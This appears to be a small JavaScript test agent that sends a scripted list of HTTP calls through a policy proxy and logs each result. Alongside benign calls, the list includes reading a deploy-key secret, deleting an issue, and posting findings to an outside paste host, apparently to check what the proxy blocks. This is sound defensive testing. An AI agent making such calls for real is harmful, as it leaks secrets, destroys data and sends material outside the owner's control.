// A small agent: it makes the calls that a model might ask for, and prints what came of each as one JSON line.
// It knows nothing of Sallyport; proxy and CA come from the environment that every injected container has.
const tracker = process.env.TRACKER_URL ?? 'https://tracker.example.com';

const calls = [
  { what: 'read an issue', url: `${tracker}/projects/shop/issues/7` },
  { what: 'comment on it', url: `${tracker}/projects/shop/issues/7/comments`, method: 'POST', body: { text: 'The disk is full.', token: 'not-for-the-record' } },
  { what: 'merge the fix', url: `${tracker}/projects/shop/changes/9/merge`, method: 'PUT', body: {} },
  { what: 'read a secret', url: `${tracker}/projects/shop/secrets/deploy-key` },
  { what: 'delete the issue', url: `${tracker}/projects/shop/issues/7`, method: 'DELETE' },
  { what: 'send the findings elsewhere', url: 'https://paste.example.net/new', method: 'POST', body: { text: 'findings' } },
];

for (const { what, url, method = 'GET', body } of calls) {
  const answer = await fetch(url, { method, ...(body ? { body: JSON.stringify(body), headers: { 'content-type': 'application/json' } } : {}) });
  const text = await answer.text();
  const problem = answer.headers.get('content-type')?.includes('problem+json') ? JSON.parse(text) : undefined;
  console.log(JSON.stringify({ what, method, url, status: answer.status, ...(problem ? { reason: problem.reason, detail: problem.detail, hint: problem.hint } : {}) }));
}
